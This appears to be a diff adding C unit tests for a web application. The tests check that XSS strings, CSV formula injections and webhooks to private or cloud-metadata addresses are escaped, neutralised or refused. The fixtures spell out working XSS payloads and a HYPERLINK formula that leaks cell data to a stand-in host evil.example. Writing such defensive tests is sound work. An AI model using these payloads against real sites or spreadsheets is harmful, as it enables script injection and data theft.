@@ -1073,6 +1073,258 @@ static void test_bad_input__search_syntax(void **state)
     }
 }
 
+/* ---- hostile text that is accepted comes out inert ----------------------- */
+
+#define XSS "\"><script>alert(1)</script><img src=x onerror=alert(2)>"
+#define FORMULA "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+
+static void expect_inert(const char *what, const char *page)
+{
+    static const char *const raw[] = {"<script>alert", "<img src=x",
+                                      "href=\"javascript:",
+                                      "src=\"javascript:"};
+
+    for (size_t i = 0; i < sizeof raw / sizeof *raw; i++)
+        if (strstr(page, raw[i]))
+            fail_msg("%s: \"%s\" came out unescaped", what, raw[i]);
+}
+
+/* Every cell of a CSV text that starts with = + - @ is neutralised. */
+static void expect_no_formula(const char *what, const char *csv)
+{
+    const char *p = csv;
+    int at_cell = 1, quoted = 0;
+
+    for (; *p; p++) {
+        if (at_cell) {
+            const char *c = *p == '"' ? p + 1 : p;
+            if (*c == '=' || *c == '+' || *c == '@')
+                fail_msg("%s: a cell starts with a formula: %.60s", what, p);
+            at_cell = 0;
+        }
+        if (*p == '"')
+            quoted = !quoted;
+        else if (!quoted && (*p == ',' || *p == '\n'))
+            at_cell = 1;
+    }
+}
+
+static void test_bad_input__hostile_text_is_inert_everywhere(void **state)
+{
+    static const char *const fields[] = {
+        "title", "summary", "consent_note", "items[0].description",
+        "items[0].campaign_note", "items[0].examples", "items[0].notes",
+        "items[0].columns[0].description", "items[0].columns[0].example"};
+    char *body = strdup(api_base), *tmp, path[128], *dir = NULL;
+    cJSON *j;
+    h_resp r;
+    long long id, fid;
+    char csvfile[800], outdir[700], *out = NULL;
+    FILE *f;
+
+    (void)state;
+    for (size_t i = 0; i < sizeof fields / sizeof *fields; i++) {
+        cJSON *s = cJSON_CreateString(XSS);
+        char *v = cJSON_PrintUnformatted(s);
+        const char *saved = api_base;
+        (void)saved;
+        cJSON_Delete(s);
+        /* api_with works on api_base: apply edits one after another */
+        {
+            cJSON *root = cJSON_Parse(body), *node = root;
+            char key[64];
+            const char *p = fields[i];
+            while (strchr(p, '.')) {
+                size_t n = strcspn(p, ".[");
+                snprintf(key, sizeof key, "%.*s", (int)n, p);
+                node = cJSON_GetObjectItem(node, key);
+                p += n;
+                while (*p == '[') {
+                    node = cJSON_GetArrayItem(node,
+                                              (int)strtol(p + 1, NULL, 10));
+                    p = strchr(p, ']') + 1;
+                }
+                p++;
+            }
+            cJSON_DeleteItemFromObject(node, p);
+            cJSON_AddItemToObject(node, p, cJSON_Parse(v));
+            tmp = cJSON_PrintUnformatted(root);
+            cJSON_Delete(root);
+            free(body);
+            body = strdup(tmp);
+            cJSON_free(tmp);
+        }
+        cJSON_free(v);
+    }
+    tmp = body;
+    body = strdup(tmp);
+    free(tmp);
+    {
+        /* consent_note needs consent_related */
+        cJSON *root = cJSON_Parse(body);
+        cJSON_DeleteItemFromObject(root, "consent_related");
+        cJSON_AddTrueToObject(root, "consent_related");
+        tmp = cJSON_PrintUnformatted(root);
+        cJSON_Delete(root);
+        free(body);
+        body = strdup(tmp);
+        cJSON_free(tmp);
+    }
+    post_api(&r, body, strlen(body), "application/json");
+    expect_status("hostile text in every field", r.status, 201, r.body);
+    j = cJSON_Parse(r.body);
+    id = (long long)cJSON_GetNumberValue(cJSON_GetObjectItem(j, "id"));
+    cJSON_Delete(j);
+    h_resp_free(&r);
+    free(body);
+
+    body = api_with("title", "\"" "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,"
+                    "\\\"click\\\")" "\"");
+    post_api(&r, body, strlen(body), "application/json");
+    expect_status("formula title", r.status, 201, r.body);
+    j = cJSON_Parse(r.body);
+    fid = (long long)cJSON_GetNumberValue(cJSON_GetObjectItem(j, "id"));
+    assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItem(j, "title")),
+                        FORMULA);
+    cJSON_Delete(j);
+    h_resp_free(&r);
+    cJSON_free(body);
+
+    snprintf(path, sizeof path, "/requests/%lld", id);
+    h_get(&r, &srv, &ann, path);
+    expect_status("request page", r.status, 200, NULL);
+    expect_inert("request page", r.body);
+    assert_non_null(strstr(r.body, "&lt;script&gt;alert(1)&lt;/script&gt;"));
+    h_resp_free(&r);
+    h_get(&r, &srv, &pat, path);
+    expect_inert("request page (pm)", r.body);
+    h_resp_free(&r);
+    h_get(&r, &srv, &pat, "/requests");
+    expect_status("queue", r.status, 200, NULL);
+    expect_inert("queue", r.body);
+    h_resp_free(&r);
+    h_get(&r, &srv, &pat, "/search?q=script");
+    expect_inert("search", r.body);
+    h_resp_free(&r);
+    h_get(&r, &srv, &pat, "/search?q=alert");
+    expect_inert("search", r.body);
+    h_resp_free(&r);
+
+    h_get(&r, &srv, &pat, "/requests.csv");
+    if (r.status == 200) {
+        expect_no_formula("/requests.csv", r.body);
+        assert_non_null(strstr(r.body, "'=HYPERLINK("));
+        snprintf(path, sizeof path, "%lld", fid);
+        assert_non_null(strstr(r.body, path));
+    }
+    h_resp_free(&r);
+
+    /* The registry: a data dictionary with formulas and markup, exported
+       as CSV and shown as a table page. */
+    snprintf(csvfile, sizeof csvfile, "%s/dict.csv", srv.dir);
+    f = fopen(csvfile, "w");
+    assert_non_null(f);
+    fputs("table,column,type,description,example,runbook\n"
+          "hostile_t,member_id,bigint,\"=HYPERLINK(\"\"http://evil.example"
+          "\"\",\"\"x\"\")\",+1+2,\"<script>alert(1)</script> "
+          "[x](javascript:alert(1))\"\n"
+          "hostile_t,tier,string(20),@SUM(A1:A9),-2+3,\n",
+          f);
+    fclose(f);
+    if (h_docket(&srv, NULL, &out, "import", "--instance", "acme-qa",
+                 csvfile, NULL) != 0)
+        fail_msg("import: %s", out);
+    free(out);
+    h_get(&r, &srv, &pat, "/tables/acme-qa/hostile_t");
+    expect_status("table page", r.status, 200, NULL);
+    expect_inert("table page", r.body);
+    h_resp_free(&r);
+    snprintf(outdir, sizeof outdir, "%s/export", srv.dir);
+    if (h_docket(&srv, NULL, &out, "export", "--format", "csv", "--out",
+                 outdir, NULL) != 0)
+        fail_msg("export: %s", out);
+    free(out);
+    snprintf(csvfile, sizeof csvfile, "%s/acme-qa.csv", outdir);
+    f = fopen(csvfile, "r");
+    assert_non_null(f);
+    {
+        char text[8192];
+        size_t n = fread(text, 1, sizeof text - 1, f);
+        text[n] = '\0';
+        expect_no_formula("docket export --format csv", text);
+        assert_non_null(strstr(text, "'=HYPERLINK("));
+        assert_non_null(strstr(text, "'@SUM(A1:A9)"));
+    }
+    fclose(f);
+    (void)dir;
+}
+
+/* Webhooks to loopback, private and link-local addresses with
+ * allow_private off: refused before connecting (the recorded error says
+ * so), the delivery is dead, and the request itself was stored. */
+static void test_bad_input__webhooks_to_private_addresses(void **state)
+{
+    static const char cfg[] =
+        "max_body = 1000000\n"
+        "[notify]\nallow_private = false\nallow_http = true\n"
+        "[channel.loop]\ntype = webhook\nurl = http://127.0.0.1:9/hook\n"
+        "secret = whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw\n"
+        "[channel.lan]\ntype = webhook\nurl = http://10.0.0.1/hook\n"
+        "secret = whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw\n"
+        "[channel.meta]\ntype = webhook\n"
+        "url = http://169.254.169.254/latest/meta-data/\n"
+        "secret = whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw\n"
+        "[route]\nrequest.submitted = loop, lan, meta\n";
+    h_server s2;
+    h_resp r;
+    char *out = NULL, token[128], auth[200];
+    const char *hdrs[2] = {auth, NULL};
+    int64_t dead = 0;
+
+    (void)state;
+    h_server_start(&s2, cfg);
+    assert_int_equal(h_docket(&s2, NULL, NULL, "org", "add", "acme", NULL), 0);
+    assert_int_equal(h_docket(&s2, NULL, NULL, "instance", "add", "acme",
+                              "acme-qa", "--env", "qa", "--dialect", "postgres",
+                              NULL),
+                     0);
+    h_user(&s2, "ann@acme.example", "Ann", "client", "acme", PW);
+    h_user(&s2, "pat@platform.example", "Pat", "pm", NULL, PW);
+    assert_int_equal(h_docket(&s2, NULL, &out, "token", "create", "--email",
+                              "ann@acme.example", "--label", "t", NULL),
+                     0);
+    sscanf(out, "%127s", token);
+    free(out);
+    snprintf(auth, sizeof auth, "Authorization: Bearer %s", token);
+    h_request(&r, &s2, NULL, "POST", "/api/v1/requests", "application/json",
+              api_base, strlen(api_base), hdrs);
+    expect_status("submission with private webhooks", r.status, 201, r.body);
+    h_resp_free(&r);
+    for (int i = 0; i < 200 && dead < 3; i++) {
+        usleep(50000);
+        dead = h_db_int(&s2, "SELECT count(*) FROM outbox WHERE state = "
+                             "'dead' AND last_error LIKE 'refused to "
+                             "connect to %private, loopback or link-local%'");
+    }
+    if (dead != 3) {
+        h_server_stop(&s2);
+        fail_msg("%lld of 3 private webhooks refused and dead",
+                 (long long)dead);
+    }
+    assert_int_equal(h_db_int(&s2, "SELECT count(*) FROM outbox WHERE "
+                                   "last_error LIKE '%10.0.0.1%'"),
+                     1);
+    assert_int_equal(h_db_int(&s2, "SELECT count(*) FROM outbox WHERE "
+                                   "last_error LIKE '%169.254.169.254%'"),
+                     1);
+    assert_int_equal(h_db_int(&s2, "SELECT count(*) FROM outbox WHERE "
+                                   "state = 'delivered'"),
+                     0);
+    assert_int_equal(h_db_int(&s2, "SELECT count(*) FROM requests"), 1);
+    h_server_stop(&s2);
+    h_server_cleanup(&s2);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -1094,6 +1346,8 @@ int main(void)
         /* these write */
         cmocka_unit_test(test_bad_input__controls_are_accepted),
         cmocka_unit_test(test_bad_input__attachment_names_sanitised),
+        cmocka_unit_test(test_bad_input__hostile_text_is_inert_everywhere),
+        cmocka_unit_test(test_bad_input__webhooks_to_private_addresses),
     };
 
     return cmocka_run_group_tests(tests, up, down);
